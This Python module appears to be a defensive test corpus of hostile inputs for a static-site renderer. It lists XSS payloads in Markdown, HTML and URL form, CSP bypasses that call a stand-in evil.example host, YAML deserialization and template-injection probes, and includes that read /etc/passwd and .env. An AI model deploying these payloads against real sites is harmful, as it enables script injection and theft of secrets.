"""Hostile texts of our own: they speak Markdown, YAML, front matter, URLs and this site's tools.

In the trials every text that got behind a naive escape came from such, none from the public lists.
`ran()` is the canary: a page where it is called, a dialog opens or another host is asked has failed.
"""

from itertools import product

_CALL = "ran()"
_SCHEMES = ("javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "&#106;avascript:ran()",
            "javascript&colon;ran()", "data:text/html,<script>ran()</script>", "vbscript:ran()",
            "//evil.example/x", "\\\\evil.example\\x", "https:javascript:ran()", "%6aavascript:ran()",
            "javascript:ran()//https://a.cn", "https://a.cn/\" onmouseover=\"ran()", "x\" onerror=\"ran()",
            "blob:https://a.cn/1", "file:///etc/passwd", "https://a.cn@evil.example/")  # fmt: skip
_PLACES = ("[x]({})", "![x]({})", "<{}>", "[x]: {}\n[x]", "[x](<{}>)", "[![i](i)]({})", "[x]({} 'x')",
           "[x]({}){{: target=_blank }}", "*[x]({})*", "- [x]({})")  # fmt: skip

LINKS = [place.format(scheme) for scheme, place in product(_SCHEMES, _PLACES)]

MARKDOWN = [
    "# x {: onclick=ran() }", "x {: onmouseover=ran() }", "x\n{: style='position:fixed;inset:0' }",
    "*x*{: onclick='ran()' }", "**x**{onclick=ran()}", "[x](https://a.cn){: onclick=ran() }",
    "{: #main }", "{: #q }", "{: #search-results }", "{: data-pagefind-body }", "{: hidden }",
    "x\n{: data-pagefind-ignore=all }", "| x | {: onclick=ran() }\n|---|---|\n| y | z |",
    "<div markdown='1'><script>ran()</script></div>", "<div markdown=block>\n\n[x](javascript:ran())\n\n</div>",
    "</div></main><script>ran()</script>", "</section></div></div><img src=x onerror=ran()>",
    "<p markdown=span onclick=ran()>x</p>", "term\n:   <script>ran()</script>", ":   {: onclick=ran() }",
    "a | b\n- | -\n<img src=x onerror=ran()> | c", "|a|\n|-|\n|[x](javascript:ran())|",
    "```html\n<script>ran()</script>\n```", "~~~ {onclick=ran()}\nx\n~~~", "``` {.x onclick=ran()}\nx\n```",
    "`<img src=x onerror=ran()>`", "`` ` <svg onload=ran()> ``", "    <script>ran()</script>",
    "[^1]: <script>ran()</script>\n\nx[^1]", "*[HTML]: \"><script>ran()</script>\n\nHTML",
    "!!! note \"<img src=x onerror=ran()>\"\n    x", "??? x \"<script>ran()</script>\"\n    y",
    "=== \"<svg onload=ran()>\"\n    x", "- [ ] <img src=x onerror=ran()>", "~~<script>ran()</script>~~",
    "==<script>ran()</script>==", "^^<b onclick=ran()>x</b>^^", "H~2~<svg onload=ran()>", "++ctrl+<b>++",
    ":smile:{: onclick=ran() }", "$$\\href{javascript:ran()}{x}$$", "\\(\\href{javascript:ran()}{x}\\)",
    "```mermaid\ngraph LR;a[\"<img src=x onerror=ran()>\"]\n```", "[TOC]", "[[x|javascript:ran()]]",
    "{++<script>ran()</script>++}", "{--x--}{>><img src=x onerror=ran()><<}", "<!-- --><script>ran()</script>",
    "<!-- x --!><img src=x onerror=ran()>", "<!--> <script>ran()</script> -->", "<? x ?><script>ran()</script>",
    "<![CDATA[<script>ran()</script>]]>", "<!DOCTYPE x [<!ENTITY y 'z'>]>", "\\<script>ran()\\</script>",
    "\\[x\\](javascript:ran())", "\\\\[x](javascript:ran())", "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;img src=x onerror=ran()&#62;", "&amp;lt;script&amp;gt;ran()", "&#x3c;svg onload=ran()&#x3e;",
    "<scr<!-- -->ipt>ran()</scr<!-- -->ipt>", "klzzwxh:0000", "\x02klzzwxh:0001\x03", "wzxhzdk:0",
    "\x02wzxhzdk:0\x03", "\x02amp\x03lt;script>ran()", "===", "---", "***", "> <script>ran()</script>",
    "1. <img src=x onerror=ran()>", "2024. 年报 <b>x</b>", "a  \n<script>ran()</script>", "x\\\n<svg onload=ran()>",
    "http://a.cn/<script>ran()</script>", "www.a.cn\"onmouseover=ran()", "a@b.cn\" onclick=\"ran()",
    "<https://a.cn/\"onmouseover=\"ran()\">", "<javascript:ran()>", "<a@b.cn?x=\"><script>ran()</script>>",
    "**<script>**ran()**</script>**", "_[x_](javascript:ran())", "[x](https://a.cn \"onload=ran()\")",
    "![x](https://evil.example/pixel.png)", "![](//evil.example/p)", "![x][y]\n\n[y]: https://evil.example/p",
]  # fmt: skip

YAML = [
    "x\n---\ntitle: <script>ran()</script>\n---", "---\ntemplate: ../../../etc/passwd\n---", "'''\"\"\"",
    "\"\nowner: evil", "x: y: z", "- - -", "&a *a", "*a", "!!python/object/apply:os.system [id]", "!ENV HOME",
    "<<: *x", "{a: b", "[a, b", "# x", "x # y", "%YAML 1.2", "? x", "| x", "> x", "@x", "`x`", "~", "null",
    "no", "0123", "12:30", "2024-06-01", "1e3", ".inf", "0x1F", "...", "a: !!binary eA==", "\\", "\\\"",
    "title: \"x\"\ntemplate: main.html", "crumbs: [{title: <b>, url: javascript:ran()}]",
]  # fmt: skip

TOOLS = [
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ config.extra }}", "{{ self.__init__.__globals__ }}",
    "{% raw %}{{ x }}{% endraw %}", "{# x #}", "{{ ''.__class__.__mro__ }}", "{%- set x = 1 -%}", "${{ x }}",
    "{{ page.content }}", "{{ request }}", "{{{x}}}", "<%= 7*7 %>", "#{7*7}", "${7*7}", "$(id)", "`id`",
    "--8<-- \".env\"", "--8<-- \"../../../etc/passwd\"", ";--8<-- \"x\"", "-8<- \"x\"", "--8<--\n.env\n--8<--",
    "{! .env !}", "{!../cases/office.yml!}", "@include(.env)", "<!--#include file=\".env\"-->", "!include .env",
    "::: yaoan.doors", "[[include:x]]", "{{#include x}}", "<script data-pagefind-ignore>ran()</script>",
    "\" data-pagefind-body=\"", "\" data-pagefind-meta=\"title:<img src=x onerror=ran()>", "data-pagefind-weight=\"10\"",
    "<span data-pagefind-filter=\"x:<script>ran()</script>\">", "</title><script>ran()</script>",
    "\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">", "' /><base href=//evil.example>",
    "]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>ran()</script>", "</script><script>ran()</script>",
    "\u2028ran()\u2029", "\\u003cscript\\u003eran()\\u003c/script\\u003e", "\\x3cimg src=x onerror=ran()\\x3e",
    "\"},{\"x\":\"</script>", "constructor", "__proto__", "hasOwnProperty", "toString",
]  # fmt: skip

CSP = [
    "<script src=/assets/yaoan.js></script><script nonce=x>ran()</script>", "<link rel=preload as=script href=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=data:text/html,<script>ran()</script>>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=https://evil.example/>",
    "<object data=javascript:ran()>", "<embed src=javascript:ran()>", "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<form action=https://evil.example><input name=q></form>", "<button formaction=javascript:ran()>x</button>",
    "<a href=x ping=https://evil.example/>x</a>", "<svg><use href=data:image/svg+xml,x#x>", "<math href=javascript:ran()>x</math>",
    "<svg><animate onbegin=ran() attributeName=x>", "<video poster=//evil.example/x>", "<img srcset=//evil.example/x>",
    "<style>@import '//evil.example/x';</style>", "<p style=background:url(//evil.example/x)>x</p>",
    "<details open ontoggle=ran()>x</details>", "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()>",
    "<marquee onstart=ran()>x</marquee>", "<template shadowrootmode=open><script>ran()</script></template>",
    "<portal src=//evil.example>", "<isindex action=javascript:ran() type=image>", "<frameset onload=ran()>",
    "<body onload=ran()>", "<body background=//evil.example/x>", "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
    "<textarea></textarea><img src=x onerror=ran()>", "<title></title><img src=x onerror=ran()>", "<plaintext>", "<xmp><img src=x onerror=ran()></xmp>",
    "<svg><style><img src=x onerror=ran()></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=ran()>'>",
    "<a id=main><a id=main name=q>", "<form id=q><input name=value>", "<img name=currentScript>", "<script type=module>import('//evil.example/x')</script>",
    "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"//evil.example\"]}]}</script>", "<link rel=dns-prefetch href=//evil.example>",
]  # fmt: skip

TEXTS = [*LINKS, *MARKDOWN, *YAML, *TOOLS, *CSP]
